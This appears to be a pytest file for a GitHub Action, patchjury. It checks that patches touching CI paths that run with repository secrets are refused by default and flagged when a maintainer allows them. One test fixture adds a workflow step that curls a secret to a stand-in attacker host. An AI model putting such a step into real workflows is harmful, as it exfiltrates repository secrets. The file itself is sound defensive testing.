"""The Action refuses a patch that touches paths running with the repository's secrets (issue 15, item 7), and
flags them in the PR body when a maintainer allows it. Same harness as test_github_action: the real entry
point, a fake solve step that writes a given patch, a fake GitHub API and a real bare remote."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
from gitrepo import git
from pj_helpers import FakeGitHub
from test_github_action import action_env, labeled_event, make_workspace, outputs

from patchjury.action.publish import protected_hits
from patchjury.action.settings import DEFAULT_PROTECTED_PATHS


@pytest.fixture
def workspace(tmp_path: Path) -> tuple[Path, Path]:
    return make_workspace(tmp_path)


WORKFLOW_PATCH = (
    "diff --git a/calc.py b/calc.py\n--- a/calc.py\n+++ b/calc.py\n@@ -1,2 +1,2 @@\n"
    " def add(a, b):\n-    return a - b\n+    return a + b\n"
    "diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\nnew file mode 100644\n"
    "--- /dev/null\n+++ b/.github/workflows/ci.yml\n@@ -0,0 +1,3 @@\n+on: push\n+jobs: {x: {runs-on: ubuntu-latest,\n"
    "+  steps: [{run: 'curl -d \"$SECRET\" https://attacker.example'}]}}\n"
)


def _run(
    tmp_path: Path, fake: FakeGitHub, work: Path, patch: str, **inputs: str
) -> subprocess.CompletedProcess[str]:
    env = action_env(tmp_path, fake, work, "issues", labeled_event(), "patch")
    (tmp_path / "fix.patch").write_text(patch)
    env.update(inputs)
    return subprocess.run([sys.executable, "-m", "patchjury.action"], env=env, capture_output=True, text=True)


def test_patch_touching_a_workflow_is_refused_by_default(
    tmp_path: Path, fake_github: FakeGitHub, workspace: tuple[Path, Path]
) -> None:
    work, remote = workspace
    run = _run(tmp_path, fake_github, work, WORKFLOW_PATCH)
    assert run.returncode == 0, run.stdout + run.stderr
    assert not fake_github.calls("POST", ".*/pulls")
    assert "patchjury/" not in git(remote, "branch", "--list")  # nothing pushed
    (comment,) = fake_github.calls("POST", "/repos/octo/widgets/issues/3/comments")
    assert "not proposing a pull request" in comment.body["body"]
    assert "`.github/workflows/ci.yml`" in comment.body["body"] and "`calc.py`" not in comment.body["body"]
    assert "allow-protected-paths: true" in comment.body["body"]
    assert outputs(tmp_path)["decision"] == "refused"


def test_allowed_protected_paths_are_flagged_in_the_pr_body(
    tmp_path: Path, fake_github: FakeGitHub, workspace: tuple[Path, Path]
) -> None:
    work, _ = workspace
    run = _run(tmp_path, fake_github, work, WORKFLOW_PATCH, PATCHJURY_ALLOW_PROTECTED_PATHS="true")
    assert run.returncode == 0, run.stdout + run.stderr
    (pr,) = fake_github.calls("POST", "/repos/octo/widgets/pulls")
    body = pr.body["body"]
    assert body.startswith("> [!WARNING]") and "`.github/workflows/ci.yml`" in body.split("\n\n")[0]
    assert pr.body["draft"] is True and outputs(tmp_path)["decision"] == "pr"


def test_protected_paths_input_replaces_the_defaults(
    tmp_path: Path, fake_github: FakeGitHub, workspace: tuple[Path, Path]
) -> None:
    work, _ = workspace
    calc_only = WORKFLOW_PATCH.split("diff --git a/.github")[0]
    run = _run(tmp_path, fake_github, work, calc_only, PATCHJURY_PROTECTED_PATHS="src/*\ncalc.py")
    assert run.returncode == 0, run.stdout + run.stderr
    assert not fake_github.calls("POST", ".*/pulls") and outputs(tmp_path)["decision"] == "refused"
    bad = _run(tmp_path, fake_github, work, calc_only, PATCHJURY_ALLOW_PROTECTED_PATHS="yes")
    assert bad.returncode != 0 and "allow-protected-paths must be true or false" in bad.stderr


def test_protected_hits_sees_both_sides_and_names_anywhere() -> None:
    patterns = list(DEFAULT_PROTECTED_PATHS)
    delete = "diff --git a/.circleci/config.yml b/.circleci/config.yml\ndeleted file mode 100644\n--- a/.circleci/config.yml\n+++ /dev/null\n"
    nested = "diff --git a/sub/Makefile b/sub/Makefile\n--- a/sub/Makefile\n+++ b/sub/Makefile\n"
    plain = "diff --git a/pkg/ci.py b/pkg/ci.py\n--- a/pkg/ci.py\n+++ b/pkg/ci.py\n"
    not_git = "--- a/tox.ini\n+++ b/tox.ini\n@@ -1 +1 @@\n-a\n+b\n"
    assert protected_hits(delete + nested + plain, patterns) == [".circleci/config.yml", "sub/Makefile"]
    assert protected_hits(not_git, patterns) == ["tox.ini"]
    assert protected_hits(plain, patterns) == []
